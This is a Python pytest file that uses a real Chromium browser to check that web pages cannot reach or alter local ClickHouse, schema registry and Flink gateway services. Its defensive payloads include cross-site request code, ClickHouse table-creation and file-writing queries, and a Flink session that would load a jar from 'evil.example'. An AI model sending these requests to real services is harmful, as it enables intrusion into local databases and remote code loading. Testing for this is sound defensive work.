"""What a web page that a person has open can do to the services of this machine, in a real browser: nothing."""

from __future__ import annotations

import shutil
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest

from clickreel.local.flink_guard import find_forbidden_option
from clickreel.local.service_guard import GuardOptions, ServiceGuard, Upstream, free_port
from clickreel.local.stack import Stack
from tests.clickhouse.process import ClickHouse, running
from tests.conftest import Registry

CHROMIUM = "/usr/bin/chromium"
TOKEN = "0123456789abcdef"  # noqa: S105 - nobody's
# A name that the test's browser alone leads to this machine, as a page of the web or a rebound name would be.
FOREIGN = "evil.example"
_PAGE = b"""<!doctype html><title>page</title><link rel="icon" href="data:,"><body><script>
function send(address, body) {
  const add = (name, fields) => document.body.append(Object.assign(document.createElement(name), fields));
  add('img', {src: address}); add('script', {src: address}); add('iframe', {src: address});
  add('iframe', {name: 'answer'});
  const form = document.createElement('form');
  Object.assign(form, {action: address, method: 'POST', enctype: 'text/plain', target: 'answer'});
  const field = document.createElement('textarea');
  field.name = body; form.append(field); document.body.append(form);
  form.submit();
  fetch(address, {mode: 'no-cors'}).catch(() => 0);
  fetch(address, {method: 'POST', mode: 'no-cors', body}).catch(() => 0);
}
</script>"""
# What `send` sends: by image, script, frame and fetch, and by form and fetch.
_SENT = ["GET"] * 4 + ["POST"] * 2
_PATIENCE_S = 120


class _Recorder(ThreadingHTTPServer):
    """Serves the page, and keeps what is asked of it otherwise."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Answer)
        self.seen: list[str] = []
        threading.Thread(target=self.serve_forever, daemon=True).start()

    @property
    def port(self) -> int:
        return int(self.server_address[1])


class _Answer(BaseHTTPRequestHandler):
    def _answer(self) -> None:
        self.rfile.read(int(self.headers.get("Content-Length", 0)))
        server = self.server
        assert isinstance(server, _Recorder)
        if self.path != "/page":
            server.seen.append(f"{self.command} {self.path}")
        content = _PAGE if self.path == "/page" else b"{}"
        self.send_response(200)
        self.send_header("Content-Type", "text/html" if self.path == "/page" else "application/json")
        self.send_header("Content-Length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)

    do_GET = do_POST = _answer  # noqa: N815 - the base class finds them by these names

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the base class names it so
        del format, args


@pytest.fixture
def recorder() -> Iterator[_Recorder]:
    """A server that trusts everybody; also what serves the page."""
    server = _Recorder()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def database(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ClickHouse]:
    """A ClickHouse with the password that every home has."""
    folder: Path = tmp_path_factory.mktemp("page") / "data"
    with running(folder, environ={"CLICKREEL_LOCAL_CLICKHOUSE_PASSWORD": TOKEN}) as server:
        yield server


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    """Debian's chromium, which finds the foreign name on this machine."""
    from playwright.sync_api import sync_playwright

    if shutil.which(CHROMIUM) is None:
        pytest.skip("no chromium on this machine: apt-get install chromium")
    with sync_playwright() as play:
        flags = ["--no-sandbox", "--disable-gpu", "--disable-background-networking"]
        flags.append(f"--host-resolver-rules=MAP {FOREIGN} 127.0.0.1")
        found = play.chromium.launch(executable_path=CHROMIUM, args=flags, timeout=180_000)
        yield found
        found.close()


def _send_from_page(browser: Any, origin: str, address: str, body: str) -> list[int | None]:
    """Let a page of this origin send to an address in all ways that it has, until each request has ended.

    Returns:
        The answers' statuses; None for one that the browser ended without showing it.
    """
    # A browser asks its person for the password of a frame that is answered with 401, and waits; this person does not know it.
    context = browser.new_context(http_credentials={"username": "nobody", "password": "unknown"})
    page = context.new_page()
    page.goto(f"{origin}/page", timeout=1000 * _PATIENCE_S)
    statuses: dict[Any, int | None] = {}

    def fail(request: Any) -> None:
        statuses.setdefault(request)

    page.on("response", lambda answer: statuses.__setitem__(answer.request, answer.status))
    page.on("requestfailed", fail)
    page.evaluate("([address, body]) => send(address, body)", [address, body])
    deadline = time.monotonic() + _PATIENCE_S
    while sorted(request.method for request in statuses) != _SENT:
        assert time.monotonic() < deadline, [(request.method, request.url, got) for request, got in statuses.items()]
        page.wait_for_timeout(50)
    context.close()
    return list(statuses.values())


def _origins(recorder: _Recorder) -> list[str]:
    return [f"http://{FOREIGN}:{recorder.port}", f"http://127.0.0.1:{recorder.port}"]


def _are_refusals(statuses: list[int | None]) -> bool:
    return set(statuses) <= {401, 403, None} and bool(set(statuses) & {401, 403})


@pytest.mark.timeout(600)
def test_a_page_can_send(browser: Any, recorder: _Recorder) -> None:
    """A server that refuses nobody is reached in all six ways: what the others do not get, they refused."""
    for origin in _origins(recorder):
        recorder.seen.clear()
        assert 200 in _send_from_page(browser, origin, f"http://127.0.0.1:{recorder.port}/open", "{}")
        assert sorted(recorder.seen) == [f"{method} /open" for method in _SENT]


@pytest.mark.timeout(900)
def test_a_page_reads_and_writes_nothing_through_a_service(
    browser: Any, recorder: _Recorder, database: ClickHouse, registry: Registry, stack: Stack
) -> None:
    """Neither a page of the web nor one of another port: ClickHouse, the registry and Flink's gateway refuse them."""
    stack.ensure(["flink"])
    subjects = f"http://{registry.url.rpartition('@')[2]}/subjects"
    gateway = stack.address("flink")
    jar = '{"properties":{"pipeline.classpaths":"http://evil.example/a.jar"}}'
    schema = '{"schemaType":"JSON","schema":"{}"}'
    sends = [
        (f"{database.url}/", "CREATE TABLE stolen (a String) ENGINE = Memory"),
        (f"{database.url}/?query=INSERT+INTO+FUNCTION+file('stolen','RawBLOB','a+String')+SELECT+1+--", "x"),
        (f"{subjects}/stolen/versions", schema),
        (f"{gateway}/v3/sessions", jar),
        (f"{gateway}/v3/info", ""),
    ]
    for origin in _origins(recorder):
        for address, body in sends:
            statuses = _send_from_page(browser, origin, address, body)
            # ClickHouse's page at / tells that it is there, without a query.
            told = {200} if address == f"{database.url}/" and FOREIGN not in origin else set()
            assert _are_refusals([status for status in statuses if status not in told]), (origin, address, statuses)
    login = ("default", TOKEN)
    assert httpx.post(database.url, content="EXISTS TABLE stolen", auth=login, timeout=60).text == "0\n"
    assert list((database.data / "user_files").iterdir()) == []
    assert "stolen" not in httpx.get(f"{registry.url}/subjects", timeout=60).text


@pytest.mark.timeout(600)
def test_nothing_of_a_page_gets_behind_the_guard(browser: Any, recorder: _Recorder) -> None:
    """Not one request reaches the service that the guard stands before."""
    service, port = _Recorder(), free_port("127.0.0.1")
    guard = ServiceGuard(
        port, GuardOptions(Upstream("127.0.0.1", service.port), TOKEN, "/v3/info", find_forbidden_option)
    )
    guard.start()
    for origin in _origins(recorder):
        assert _are_refusals(_send_from_page(browser, origin, f"http://127.0.0.1:{port}/v3/sessions", "{}"))
    assert service.seen == []
    for server in (guard, service):
        server.shutdown()
        server.server_close()


@pytest.mark.timeout(600)
def test_a_foreign_page_is_refused_even_with_the_password(
    browser: Any, recorder: _Recorder, database: ClickHouse
) -> None:
    """A password that leaked into a page of the web opens nothing."""
    address = f"{database.url}/?user=default&password={TOKEN}&query=SELECT+1"
    statuses = _send_from_page(browser, _origins(recorder)[0], address, "")
    assert set(statuses) <= {403, None}
    assert 403 in statuses
